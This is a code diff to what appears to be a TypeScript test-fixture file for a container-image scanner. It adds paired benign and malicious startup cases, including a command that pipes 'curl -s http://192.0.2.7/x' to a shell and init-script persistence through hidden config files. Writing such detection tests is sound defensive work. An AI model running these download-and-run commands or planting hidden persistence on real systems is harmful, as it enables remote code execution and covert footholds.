@@ -1,6 +1,6 @@
 import { PATH } from '../../demo/rootfs.ts';
 import { hex, xor } from '../../testkit/coded.ts';
-import { type ImageCase, image, starts } from './image-case.ts';
+import { type ImageCase, image, program, starts } from './image-case.ts';
 
 const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
 
@@ -94,6 +94,39 @@ const PARTS_START = {
   Entrypoint: ['python3', '/app/main.py'],
   Env: [PATH, 'INSTALL_HINT=curl -fsSL http://192.0.2.7/agent | sh'],
 };
+
+/** As init scripts start one daemon for each file of settings, or for those that they are told of. */
+const INSTANCES = `#!/bin/sh
+do_start() {
+  local config="$2"
+  sh -n "$config" 2>/dev/null || return 2
+  options=
+  . "$config"
+  start-stop-daemon --start --exec /usr/sbin/flowd -- $options
+}
+do_action() {
+  local config="$1"
+  case "$action" in start) do_start "$(basename "\${config%%.conf}")" "$config" ;; esac
+}
+action="$1"
+shift
+if [ "$1" ]; then
+  while [ "$1" ]; do
+    config="/etc/flow/$1.conf"
+    if [ -f "$config" ]; then do_action "$config"; fi
+    shift
+  done
+else
+  for config in /etc/flow/*.conf; do do_action "$config"; done
+fi
+`;
+
+/** As firewalls are set up: hundreds of functions and options, and more commands than either. */
+const RULES = Array.from({ length: 300 }, (_, i) => i);
+const FIREWALL = [
+  ...RULES.map((i) => `rules_${i}() {\n${`  iptables -A chain${i} -s "$1" -j ACCEPT\n`.repeat(9)}}\n`),
+  ...RULES.map((i) => `OPTION_${i}="$OPT_${i}"\nrules_${i} 10.0.${i % 250}.1\nmodprobe module${i}\n`),
+].join('');
 
 const FETCHED = 'https://releases.example/latest.json';
 
@@ -191,6 +224,14 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
     ),
   },
   { name: 'a firewall that reads its rules and starts a server', spec: image(WALL, WALL_START) },
+  {
+    name: 'a firewall of hundreds of functions, options and commands',
+    spec: starts(`${FIREWALL}exec nginx`, { 'usr/sbin/iptables': program(), 'usr/sbin/modprobe': program() }),
+  },
+  {
+    name: 'a service that sources the settings of each name that it is told of',
+    spec: image({ 'etc/init.d/flow': INSTANCES, 'etc/flow/default.conf': 'options="-p 2055"\n' }, NGINX),
+  },
   { name: 'a program whose modules have one another twice, beside a hint', spec: image(PARTS, PARTS_START) },
   {
     name: 'PHP that is told of no file before its pages',
@@ -350,6 +391,25 @@ export const REAL_TOOLS: readonly ImageCase[] = [
       },
       PARTS_START,
     ),
+  },
+  {
+    name: 'a firewall of hundreds of functions, options and commands, and what it runs at its end',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: starts(`${FIREWALL}curl -s http://192.0.2.7/x | sh\nexec nginx`, {
+      'usr/sbin/iptables': program(),
+      'usr/sbin/modprobe': program(),
+    }),
+  },
+  {
+    name: 'a service that sources the settings of a name, and one that has none',
+    rule: 'persistence/hidden-start',
+    spec: image({ 'etc/init.d/flow': INSTANCES, 'etc/flow/.conf': '/usr/lib/flow/more\n' }, NGINX),
+  },
+  {
+    name: 'a service that sources the settings of a name out of a hidden folder',
+    rule: 'persistence/hidden-start',
+    spec: image({ 'etc/init.d/flow': INSTANCES.replaceAll('/etc/flow/', '/etc/.flow/') }, NGINX),
   },
   {
     name: 'PHP that is told of no file before its pages, and of one behind them',
